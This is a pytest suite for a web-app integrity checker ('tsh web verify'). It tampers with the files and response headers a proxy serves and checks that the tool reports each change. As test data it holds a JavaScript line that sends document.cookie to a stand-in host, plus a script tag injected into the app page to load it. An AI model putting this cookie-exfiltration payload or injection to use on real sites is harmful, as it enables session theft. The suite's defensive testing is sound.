# SPDX-License-Identifier: Apache-2.0
"""`tsh web verify`: the proxy of a release is told from one that serves something else, and from one that tries to hide it."""
import gzip
import hashlib
import http.server
import json
import os
import shutil
import signal
import ssl
import subprocess
import threading

import pytest

from cluster import Cluster, wait_for
from conftest import TOP, keep_logs, scratch

pytestmark = pytest.mark.sanitized
EVIL = b'fetch("https://elsewhere.example/" + document.cookie)\n'


def index_of(site):
    with open(os.path.join(site, 'index'), encoding='utf-8') as f:
        return [line.split()[1] for line in f]


def seal(site):
    """A whole folder again, as proxyd wants it, after files were changed."""
    names = [n for n in index_of(site) if os.path.exists(os.path.join(site, n))]
    with open(os.path.join(site, 'index'), 'w', encoding='utf-8') as out:
        for name in names:
            with open(os.path.join(site, name), 'rb') as f:
                out.write(f'{hashlib.sha256(f.read()).hexdigest()}  {name}\n')


def named(site, stem):
    return next(n for n in index_of(site) if n.startswith(stem + '.') and not n.endswith('.gz'))


class Gate(Cluster):
    def verify(self, *options, **kw):
        return self.tsh('nobody', 'web', 'verify', f'--proxy={self.proxy}', f'--hashes={self.hashes}', f'--ca-pin={self.pin}',
                        *options, check=False, **kw)

    def serve(self, change):
        """The app with something changed, by a proxy that was told so."""
        shutil.rmtree(self.site)
        shutil.copytree(self.release, self.site)
        change(self.site)
        seal(self.site)
        lines = self.daemons['proxyd'].text().count('web app read')
        os.kill(self.daemons['proxyd'].pid, signal.SIGHUP)
        wait_for('the other app', lambda: self.daemons['proxyd'].text().count('web app read') > lines)


@pytest.fixture(scope='module')
def gate(build):
    subprocess.run(['flock', 'web', 'make', '-s', 'web'], cwd=TOP, check=True)
    c = Gate(scratch(), build)
    c.release = os.path.join(TOP, 'build/web/site')
    try:
        c.start_authd()
        c.site = c.path('app')
        shutil.copytree(c.release, c.site)
        c.hashes = c.write('web-hashes', subprocess.run([os.path.join(TOP, 'tools/web-hashes'), os.path.join(TOP, 'build')], check=True,
                                                        stdout=subprocess.PIPE, text=True).stdout)
        c.pin = c.ca_pin()
        c.start_proxyd(f'web_app: {c.site}\n')
        yield c
    finally:
        keep_logs(c, 'web-verify')
        c.remove()


def addresses(out):
    return {line.split(': ')[0] for line in out.stdout.splitlines()}


def test_the_release_is_known_again(gate):
    gate.serve(lambda site: None)
    out = gate.verify()
    assert out.returncode == 0 and f'{gate.proxy} serves the web app of Sallyport' in out.stdout, out.stdout + out.stderr
    answer = json.loads(gate.verify('--format=json').stdout)
    plain = [n for n in index_of(gate.release) if not n.endswith('.gz')]
    assert answer['same'] is True and answer['differences'] == [] and answer['files'] == len(plain) + 3  # the sign-up page's


def test_no_list_of_another_app_is_installed_beside_the_app(tmp_path):
    """It would call the app that is there an intruder's."""
    site, hashes, there = tmp_path / 'site', tmp_path / 'web-hashes', tmp_path / 'root/usr/share/sallyport/web-hashes'
    site.mkdir()

    def install(index, listed):
        for path, when in (site / 'index', index), (hashes, listed):
            path.write_text('')
            os.utime(path, (when, when))
        subprocess.run(['make', '-s', 'install-web', f'DESTDIR={tmp_path}/root', f'SITE_DIR={site}', f'SITE_HASHES={hashes}'], cwd=TOP,
                       check=True)
        assert (there.parent / 'web/index').exists()
        return there.exists()
    assert install(1000, 2000)
    assert not install(3000, 2000)  # also the one that was there goes
    assert install(3000, 3000)


def test_a_changed_file_is_found(gate):
    def change(site):
        for suffix, pack in ('', bytes), ('.gz', gzip.compress):
            with open(os.path.join(site, named(site, 'keys') + suffix), 'wb') as f:
                f.write(pack(EVIL))
    gate.serve(change)
    out = gate.verify()
    assert out.returncode == 2 and addresses(out) == {f'/web/site/{named(gate.release, "keys")}'}
    assert 'has another content' in out.stdout and out.stderr.count('ERROR') == 1 and '1 difference;' in out.stderr


def test_only_the_copy_by_gzip_is_changed(gate):
    def change(site):
        with open(os.path.join(site, named(site, 'api') + '.gz'), 'wb') as f:
            f.write(gzip.compress(EVIL))
    gate.serve(change)
    out = gate.verify('--format=json')
    answer = json.loads(out.stdout)
    assert out.returncode == 2 and [d['address'] for d in answer['differences']] == [f'/web/site/{named(gate.release, "api")}']


def test_a_file_that_unpacks_to_gigabytes_costs_nothing(gate):
    def change(site):
        with open(os.path.join(site, named(site, 'api') + '.gz'), 'wb') as f:
            f.write(gzip.compress(bytes(40 << 20)))
    gate.serve(change)
    out = gate.verify()
    assert out.returncode == 2 and 'more than it may be' in out.stdout


def test_a_missing_and_an_additional_file(gate):
    def change(site):
        gone = named(site, 'update')
        for name in (gone, gone + '.gz', 'app.html.gz'):
            os.remove(os.path.join(site, name))
        with open(os.path.join(site, 'evil.0123456789abcdef.mjs'), 'wb') as f:
            f.write(EVIL)
        with open(os.path.join(site, 'app.html'), 'r+', encoding='utf-8') as f:
            page = f.read().replace('</head>', '<script type="module" src="/web/site/evil.0123456789abcdef.mjs"></script></head>')
            f.seek(0)
            f.write(page)
        with open(os.path.join(site, 'index'), 'a', encoding='utf-8') as f:
            f.write('x  evil.0123456789abcdef.mjs\n')
    gate.serve(change)
    out = gate.verify()
    assert out.returncode == 2
    assert addresses(out) == {'/web', '/web/site/evil.0123456789abcdef.mjs', f'/web/site/{named(gate.release, "update")}'}
    assert 'the proxy answers 404' in out.stdout and 'is named by the page, and is not in the list' in out.stdout


# --- the list ------------------------------------------------------------------------------------------------------------------


@pytest.fixture(scope='module')
def keys(gate):
    """The maintainers' key, and another's; the list signed by the first."""
    gate.serve(lambda site: None)
    for name in 'release', 'other':
        gate.run('ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-f', gate.path(name), '-C', '')
        with open(gate.path(name + '.pub'), encoding='utf-8') as f:
            gate.write(name + '.signers', f'{name}@example.com namespaces="sallyport-web" {f.read()}')
    sign(gate, 'release', 'sallyport-web')
    return gate


def sign(gate, key, namespace):
    if os.path.exists(gate.hashes + '.sig'):
        os.remove(gate.hashes + '.sig')
    gate.run('ssh-keygen', '-q', '-Y', 'sign', '-f', gate.path(key), '-n', namespace, gate.hashes)


def test_a_signed_list(keys):
    out = keys.verify(f'--allowed-signers={keys.path("release.signers")}')
    assert out.returncode == 0 and 'signed by release@example.com' in out.stdout, out.stderr


@pytest.mark.parametrize('signers, error', [('other.signers', 'not signed by anybody whom'), ('nosuch', 'No such file')])
def test_a_list_of_somebody_else(keys, signers, error):
    out = keys.verify(f'--allowed-signers={keys.path(signers)}')
    assert out.returncode == 1 and error in out.stderr and out.stdout == ''


def test_a_list_that_was_changed_after_it_was_signed(keys):
    with open(keys.hashes, encoding='utf-8') as f:
        text = f.read()
    keys.write('web-hashes', text.replace('version ', 'version 9'))
    out = keys.verify(f'--allowed-signers={keys.path("release.signers")}')
    keys.write('web-hashes', text)
    assert out.returncode == 1 and 'is no good signature of the list' in out.stderr


def test_a_signature_for_another_purpose(keys):
    sign(keys, 'release', 'git')
    out = keys.verify(f'--allowed-signers={keys.path("release.signers")}')
    sign(keys, 'release', 'sallyport-web')
    assert out.returncode == 1 and 'is no good signature' in out.stderr


@pytest.mark.parametrize('text', ['', 'sallyport-web 2\n', 'sallyport-web 1\nversion 1\n', 'sallyport-web 1\nversion 1\nfile x\n'])
def test_lists_that_are_none(gate, text):
    gate.write('bad-hashes', text)
    out = gate.tsh('nobody', 'web', 'verify', f'--proxy={gate.proxy}', f'--hashes={gate.path("bad-hashes")}', check=False)
    assert out.returncode == 1 and 'bad-hashes' in out.stderr and 'list' in out.stderr


def test_without_a_pin_a_stranger_is_not_believed(gate):
    out = gate.tsh('nobody', 'web', 'verify', f'--proxy={gate.proxy}', f'--hashes={gate.hashes}', check=False)
    assert out.returncode == 1 and 'not trusted' in out.stderr


# --- a server that is no proxyd -----------------------------------------------------------------------------------------------


class Stage:
    """Serves what the list says, but for what `act` does with an answer: {'head': bytes of the head, 'body': bytes}."""

    def __init__(self, gate):
        self.act, self.asked = None, []
        self.files, headers, fresh = {}, [], False
        with open(gate.hashes, encoding='utf-8') as f:
            for line in f.read().splitlines():
                kind, _, rest = line.partition(' ')
                if kind == 'header':
                    headers = [rest] if fresh else [*headers, rest]
                    fresh = False
                if kind == 'file':
                    _, _, address, mime = rest.split(' ', 3)
                    self.files[address] = [*headers, f'Content-Type: {mime}']
                    fresh = True
        cert, key = gate.path('stage.crt'), gate.path('stage.key')
        if not os.path.exists(cert):
            gate.run('openssl', 'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '2', '-subj',
                     '/CN=localhost', '-addext', 'subjectAltName=DNS:localhost', '-keyout', key, '-out', cert)
        self.server = http.server.ThreadingHTTPServer(('127.0.0.1', 0), self.handler(gate))
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(cert, key)
        self.server.socket = context.wrap_socket(self.server.socket, server_side=True)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.run = lambda: gate.run(gate.bin('tsh'), 'web', 'verify', f'--proxy=localhost:{self.server.server_port}',
                                    f'--hashes={gate.hashes}', check=False, env={**gate.env('nobody'), 'SSL_CERT_FILE': cert})

    def handler(self, gate):
        stage = self
        source = {'/web': os.path.join(gate.release, 'app.html'), '/web/style.css': os.path.join(TOP, 'web/style.css'),
                  '/web/invite.mjs': os.path.join(TOP, 'web/invite.mjs'),
                  '/web/securitykey.mjs': os.path.join(TOP, 'web/app/securitykey.mjs')}

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                stage.asked.append((self.path, dict(self.headers)))
                headers = stage.files.get(self.path)
                if headers is None:
                    self.send_error(404)
                    return
                with open(source.get(self.path) or os.path.join(gate.release, os.path.basename(self.path)), 'rb') as f:
                    body = f.read()
                answer = {'first': 'HTTP/1.1 200 OK', 'headers': [*headers], 'body': body}
                if stage.act:
                    stage.act(self.path, answer)
                head = [answer['first'], *answer['headers'], f'Content-Length: {len(answer["body"])}']
                self.wfile.write('\r\n'.join(head).encode() + b'\r\n\r\n' + answer['body'])
                self.close_connection = True

            def log_message(self, *_):
                pass
        return Handler

    def stop(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope='module')
def stage(gate):
    s = Stage(gate)
    yield s
    s.stop()


def without(name):
    return lambda headers: [h for h in headers if not h.startswith(name)]


def more(header):
    return lambda headers: [*headers, header]


def instead(name, value):
    return lambda headers: [f'{name}: {value}' if h.startswith(name) else h for h in headers]


def test_an_honest_stage_passes(stage):
    stage.act = None
    out = stage.run()
    assert out.returncode == 0, out.stdout + out.stderr


def test_it_asks_for_the_list_alone_and_as_a_browser(stage):
    stage.act, stage.asked = None, []
    stage.run()
    assert [path for path, _ in stage.asked] == list(stage.files)
    assert all('Mozilla/5.0' in h['User-Agent'] and 'sallyport' not in str(h).lower() for _, h in stage.asked)


HIDING = [
    (without('Content-Security-Policy'), 'comes without the header Content-Security-Policy'),
    (without('X-Content-Type-Options'), 'comes without the header X-Content-Type-Options'),
    (instead('Content-Security-Policy', "default-src *"), 'its header Content-Security-Policy is "default-src *"'),
    (instead('Content-Type', 'text/html; charset=utf-7'), 'its header Content-Type is "text/html; charset=utf-7"'),
    (more("Content-Security-Policy: default-src 'self'"), 'has the header Content-Security-Policy more than once'),
    (more('Link: <https://elsewhere.example/x.css>; rel=stylesheet'), 'has a header that no such proxy sends: Link'),
    (more('Service-Worker-Allowed: /'), 'has a header that no such proxy sends: Service-Worker-Allowed'),
    (more('Date: now\nLink: <https://elsewhere.example/x.css>; rel=stylesheet'), 'has a header that no such proxy sends: Date'),
    (more('Content-Encoding: br'), 'has a header that no such proxy sends: Content-Encoding'),
    (more('Content-Encoding: gzip'), 'has another content: unpacked it is damaged'),
    (more('X-\x1b[2Jcleared: \x1b]0;title\x07'), 'has a header that no such proxy sends: X-?[2Jcleared: ?]0;title?'),
]


def test_headers_that_hide_something(stage):
    """Each at a file of its own, and all in one look, which costs as many handshakes as there are files."""
    places = dict(zip(stage.files, HIDING))
    assert len(places) == len(HIDING)

    def act(path, answer):
        if path in places:
            answer['headers'] = places[path][0](answer['headers'])
    stage.act = act
    out = stage.run()
    assert out.returncode == 2 and addresses(out) == set(places), out.stdout + out.stderr
    for path, (_, said) in places.items():
        assert any(line.startswith(f'{path}: ') and said in line for line in out.stdout.splitlines()), (path, said, out.stdout)
    assert '\x1b' not in out.stdout + out.stderr


def test_answers_that_are_none(stage):
    def act(path, answer):
        if path == '/web/style.css':
            answer['first'] = 'HTTP/1.1 302 Found'
            answer['headers'].append('Location: https://elsewhere.example/')
        if path == '/web/invite.mjs':
            answer['body'] = bytes(8 << 20)
        if path == '/web/securitykey.mjs':
            answer['first'] = 'SSH-2.0-x'
    stage.act, stage.asked = act, []
    out = stage.run()
    assert out.returncode == 2 and addresses(out) == {'/web/style.css', '/web/invite.mjs', '/web/securitykey.mjs'}
    assert 'the proxy answers 302' in out.stdout and 'too big' in out.stdout and 'does not speak HTTP' in out.stdout
    assert {path for path, _ in stage.asked} <= {*stage.files, '/v1/webapi/find'}
